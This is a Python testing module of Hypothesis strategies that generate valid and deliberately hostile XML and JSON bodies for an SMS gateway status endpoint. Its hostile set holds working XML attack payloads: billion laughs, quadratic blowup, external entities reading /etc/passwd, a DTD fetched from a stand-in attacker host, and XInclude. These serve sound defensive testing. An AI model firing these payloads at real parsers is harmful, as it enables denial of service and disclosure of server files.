"""Hypothesis strategies for the gateway's reports and documents, valid and hostile.

Install with ``pip install 'smsstatus[hypothesis]'``.  Use them to property-test the
endpoint that receives the gateway's statuses::

    from hypothesis import given
    from smsstatus.strategies import hostile_payloads, xml_payloads

    @given(xml_payloads())
    def test_every_status_is_acknowledged(payload): ...

    @given(hostile_payloads())
    def test_hostile_bodies_are_refused_or_isolated(payload): ...

Strategy.  Every strategy shrinks towards a small, readable example: id 0, no time,
the status ``send``, no legs, an empty or one-item document, the canonical text that
`encode_xml` / `encode_json` write.  Valid documents are the encoders' output with a
few surface variations a receiver must also accept (no XML declaration, no
indentation, JSON ids as numbers), so they decode to exactly the reports drawn.
Hostile documents are grouped by the way they attack a receiver (see
`hostile_payloads`); each group is a plain strategy built from valid documents or from
small fixed attacks, never from megabytes of random bytes, so a property test over them
stays fast.

``st.from_type(StatusReport)`` draws from `status_reports()`: the package registers it
through Hypothesis' ``hypothesis`` entry point when the extra is installed.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from datetime import datetime, tzinfo
from typing import Any

try:
    from hypothesis import strategies as st
    from hypothesis.errors import InvalidArgument
except ImportError as exc:
    raise ImportError(
        "smsstatus.strategies needs Hypothesis: install the extra with "
        "pip install 'smsstatus[hypothesis]'"
    ) from exc

from ._json import encode_json
from ._model import Status, StatusReport
from ._xml import encode_xml

__all__ = [
    "hostile_payloads",
    "json_payloads",
    "status_reports",
    "statuses",
    "xml_payloads",
]

# Times the gateway can plausibly send; the lower bound is what a time shrinks to.
_FIRST_TIME = datetime(2000, 1, 1)
_LAST_TIME = datetime(2099, 12, 31, 23, 59, 59)
# Ids are the gateway's message numbers: a database's signed 64-bit integer.
_MAX_ID = 2**63 - 1
# How many reports a document the strategies draw themselves holds at most.
_MAX_REPORTS = 20


def statuses() -> st.SearchStrategy[Status]:
    """Any `Status`; shrinks towards `Status.SEND`."""
    return st.sampled_from(Status)


def status_reports(*, tz: tzinfo | None = None) -> st.SearchStrategy[StatusReport]:
    """Valid `StatusReport` values, as the gateway's documents can carry them.

    `id_sms` is 0 or more (at most 2**63 - 1), `time` is None or a time from the
    years 2000-2099 with whole seconds and `tz` attached (naive when `tz` is None),
    `sms` and `viber` are each None or a status.  These are exactly the reports that
    survive a round trip: ``decode(encode_xml(rs), tz=tz).reports == tuple(rs)``.
    """
    times = st.datetimes(min_value=_FIRST_TIME, max_value=_LAST_TIME).map(
        lambda time: time.replace(microsecond=0, fold=0, tzinfo=tz)
    )
    legs = st.none() | statuses()
    return st.builds(
        StatusReport,
        id_sms=st.integers(min_value=0, max_value=_MAX_ID),
        time=st.none() | times,
        state=statuses(),
        sms=legs,
        viber=legs,
    )


def _report_lists(
    reports: st.SearchStrategy[Sequence[StatusReport]] | None,
) -> st.SearchStrategy[Sequence[StatusReport]]:
    if reports is None:
        return st.lists(status_reports(), max_size=_MAX_REPORTS)
    if not isinstance(reports, st.SearchStrategy):
        raise InvalidArgument(
            "reports must be a strategy of lists of StatusReport, e.g. "
            f"st.lists(status_reports()), not {reports!r}"
        )
    return reports


@st.composite
def _xml_document(draw: st.DrawFn, reports: Sequence[StatusReport]) -> bytes:
    document = encode_xml(reports)
    if draw(st.booleans()):  # the declaration is optional in XML
        document = document.split(b"\n", 1)[1]
    if draw(st.booleans()):  # no indentation or line breaks
        document = document.replace(b"\n  ", b"").replace(b"\n", b"")
    return document


def xml_payloads(
    reports: st.SearchStrategy[Sequence[StatusReport]] | None = None,
) -> st.SearchStrategy[bytes]:
    """Valid XML documents of the gateway, as bytes.

    `reports` is a strategy of lists of reports to encode, for instance
    ``st.lists(status_reports(), min_size=1, max_size=500)`` or ``st.just([...])``;
    by default up to 20 reports from `status_reports()`.  A document is what
    `encode_xml` writes, maybe without its declaration or its indentation: it
    decodes to exactly the reports drawn.  To assert on those reports, draw them
    yourself and call `encode_xml`.
    """
    return _report_lists(reports).flatmap(_xml_document)


@st.composite
def _json_document(draw: st.DrawFn, reports: Sequence[StatusReport]) -> bytes:
    items = json.loads(encode_json(reports))
    if draw(st.booleans()):  # `id_sms` is documented as Int, shown as a string
        for item in items:
            item["id_sms"] = int(item["id_sms"])
    compact = draw(st.booleans())
    return json.dumps(items, separators=(",", ":") if compact else None).encode()


def json_payloads(
    reports: st.SearchStrategy[Sequence[StatusReport]] | None = None,
) -> st.SearchStrategy[bytes]:
    """Valid JSON documents of the gateway (an array of objects), as bytes.

    `reports` works as for `xml_payloads`.  A document is what `encode_json` writes,
    maybe with ids as numbers instead of strings and without spaces: it decodes to
    exactly the reports drawn.
    """
    return _report_lists(reports).flatmap(_json_document)


# --- hostile documents -------------------------------------------------------------

_BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE response [\n <!ENTITY lol0 "lol">\n'
    + b"".join(
        b' <!ENTITY lol%d "%s">\n' % (level, b"".join([b"&lol%d;" % (level - 1)] * 10))
        for level in range(1, 10)
    )
    + b']>\n<response><state id_sms="1" time="">&lol9;</state></response>'
)

# One 10 kB entity used 2000 times: 20 MB once expanded, no nesting needed.
_QUADRATIC_BLOWUP = (
    b'<?xml version="1.0"?>\n<!DOCTYPE response [<!ENTITY a "'
    + b"a" * 10_000
    + b'">]>\n<response><state id_sms="1" time="">'
    + b"&a;" * 2000
    + b"</state></response>"
)

_XML_ATTACKS = {
    "billion laughs": _BILLION_LAUGHS,
    "quadratic blowup": _QUADRATIC_BLOWUP,
    "external entity": (
        b'<?xml version="1.0"?>\n<!DOCTYPE response [<!ENTITY xxe SYSTEM '
        b'"file:///etc/passwd">]>\n<response><state id_sms="1" time="">&xxe;'
        b"</state></response>"
    ),
    "external DTD": (
        b'<?xml version="1.0"?>\n<!DOCTYPE response SYSTEM '
        b'"http://attacker.invalid/evil.dtd">\n<response></response>'
    ),
    "parameter entity": (
        b'<?xml version="1.0"?>\n<!DOCTYPE response [<!ENTITY % remote SYSTEM '
        b'"http://attacker.invalid/evil.dtd"> %remote;]>\n<response></response>'
    ),
    "unparsed entity": (
        b'<?xml version="1.0"?>\n<!DOCTYPE response [<!NOTATION gif SYSTEM '
        b'"image/gif"><!ENTITY pic SYSTEM "http://attacker.invalid/a.gif" '
        b"NDATA gif>]>\n<response></response>"
    ),
    "XInclude": (
        b'<?xml version="1.0"?>\n<response '
        b'xmlns:xi="http://www.w3.org/2001/XInclude"><state id_sms="1" time="">'
        b'<xi:include href="file:///etc/passwd" parse="text"/></state></response>'
    ),
    "deep nesting": b"<response>"
    + b"<state>" * 10_000
    + b"</state>" * 10_000
    + b"</response>",
}

_WRONG_DOCUMENTS = (
    b"",
    b"   \r\n",
    b"null",
    b'"[]"',
    b"42",
    b"true",
    b"[[]]",
    b"[1, 2, 3]",
    b'{"id_sms": {"id_sms": "1"}}',
    b"<html><body>502 Bad Gateway</body></html>",
    b'<?xml version="1.0"?><response>',
    b"<response><state id_sms='1' time=''>send</state></response><response/>",
    b"\xef\xbb\xbf\xef\xbb\xbf[]",
    b"\xff\xfe<\x00r\x00",
    b'["\\ud800"]',
    b'[{"id_sms": "1", "time": "", "state": "send\\udfff"}]',
    b"<response>\xc3\x28</response>",
    b"[" * 100_000 + b"]" * 100_000,
)


def _valid_payloads() -> st.SearchStrategy[bytes]:
    small = st.lists(status_reports(), min_size=1, max_size=5)
    return xml_payloads(small) | json_payloads(small)


@st.composite
def _truncated(draw: st.DrawFn) -> bytes:
    document = draw(_valid_payloads())
    # Cut before the last meaningful byte: the rest would still be the whole document.
    return document[: draw(st.integers(0, len(document.rstrip()) - 1))]


@st.composite
def _mutated(draw: st.DrawFn) -> bytes:
    # Valid documents are tens of bytes long: four deletions never empty one.
    document = bytearray(draw(_valid_payloads()))
    for _ in range(draw(st.integers(1, 4))):
        at = draw(st.integers(0, len(document) - 1))
        how = draw(st.sampled_from(("replace", "insert", "delete")))
        if how == "delete":
            del document[at]
        else:
            byte = draw(st.integers(0, 255))
            if how == "replace":
                document[at] = byte
            else:
                document.insert(at, byte)
    return bytes(document)


# Characters for wrong values: a fixed alphabet keeps drawing cheap (no Unicode
# tables to build on first use) and still holds markup, quotes, controls, a NUL,
# a byte-order mark, a line separator and characters outside the BMP.
_WRONG_TEXT = st.text(
    alphabet="0aZ -:.\t\n\x00<>&'\"\\/\u00e9\u2116\u044f\u2028\ufeff\U0001f600",
    max_size=20,
)

# Values of the wrong JSON type, or of the right type and wrong content.
_wrong_json_values: st.SearchStrategy[Any] = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(max_value=-1),
    st.integers(),
    st.floats(),
    _WRONG_TEXT,
    st.lists(st.integers(), max_size=3),
    st.dictionaries(_WRONG_TEXT, st.integers(), max_size=2),
)

_FIELDS = ("id_sms", "time", "state", "sms", "viber")


@st.composite
def _wrong_json_types(draw: st.DrawFn) -> bytes:
    good = draw(st.lists(status_reports(), max_size=3))
    items: list[Any] = json.loads(encode_json(good))
    bad = json.loads(encode_json([draw(status_reports())]))[0]
    field = draw(st.sampled_from(_FIELDS))
    if draw(st.booleans()):
        bad.pop(field, None)
    else:
        bad[field] = draw(_wrong_json_values)
    items.insert(draw(st.integers(0, len(items))), bad)
    if draw(st.booleans()):  # an item that is not an object at all
        items.append(draw(_wrong_json_values))
    return json.dumps(items).encode()


@st.composite
def _wrong_xml_values(draw: st.DrawFn) -> bytes:
    value = draw(_WRONG_TEXT)
    field = draw(st.sampled_from(_FIELDS))
    attributes = {"id_sms": "1", "time": "", "sms": "", "viber": ""}
    text = "send"
    if field == "state":
        text = value
    else:
        attributes[field] = value
    escaped = {name: _xml_escape(item) for name, item in attributes.items()}
    rendered = " ".join(f'{name}="{item}"' for name, item in escaped.items())
    element = f"<state {rendered}>{_xml_escape(text)}</state>"
    return f"<response>{element}</response>".encode()


def _xml_escape(text: str) -> str:
    # Characters XML 1.0 forbids outright are left in: they make the document
    # malformed, which is a hostile case too.
    return (
        text.replace("&", "&amp;")
        .replace("<", "&lt;")
        .replace('"', "&quot;")
        .replace(">", "&gt;")
    )


_OVERSIZED = (
    # More digits than int() converts (4300 by default).
    b'<response><state id_sms="' + b"9" * 5000 + b'" time="">send</state></response>',
    b'[{"id_sms": ' + b"9" * 5000 + b', "time": "", "state": "send"}]',
    b'[{"id_sms": "' + b"9" * 5000 + b'", "time": "", "state": "send"}]',
    b'<response><state id_sms="1" time="">'
    + b"deliver" * 20_000
    + b"</state></response>",
    b'[{"id_sms": "1", "time": "'
    + b"2026-01-01 00:00:00" * 5000
    + b'", "state": "send"}]',
    b'<response><state id_sms="1" time="" sms="' + b"x" * 100_000 + b'">send</state>'
    b"</response>",
    b"<response " + b"a" * 100_000 + b'="1"></response>',
    b'[{"id_sms": "1", "time": "", "state": "send", "' + b"k" * 100_000 + b'": 1}]',
    b"[" + b"1e999999, " * 1000 + b"1]",
)


def hostile_payloads() -> st.SearchStrategy[bytes]:
    """Bodies a receiver must refuse (HTTP 400) or take apart item by item.

    They cover:

    - XML attacks: billion laughs, quadratic blowup, external entity, external DTD,
      parameter entity, unparsed entity, XInclude, nesting 10 000 deep;
    - documents of the wrong shape: empty, blank, a JSON scalar, nested arrays, HTML,
      two roots, invalid UTF-8 or UTF-16, lone surrogates, JSON nested too deep;
    - valid documents truncated anywhere before their end;
    - valid documents with a few bytes replaced, inserted or deleted;
    - JSON items with a field missing or of the wrong type (null, booleans, negative
      numbers, floats, arrays, objects), and items that are not objects;
    - XML items with an arbitrary value in one field;
    - oversized values: ids with 5000 digits, 100 kB attributes, keys and texts.

    Some of them are still valid documents (a mutation may hit whitespace): the rule
    a receiver follows is never to raise, to refuse the document or isolate the bad
    items, and to acknowledge only what it took.
    """
    return st.one_of(
        st.sampled_from(_WRONG_DOCUMENTS),
        _truncated(),
        _wrong_json_types(),
        _wrong_xml_values(),
        _mutated(),
        st.sampled_from(list(_XML_ATTACKS.values())),
        st.sampled_from(_OVERSIZED),
    )
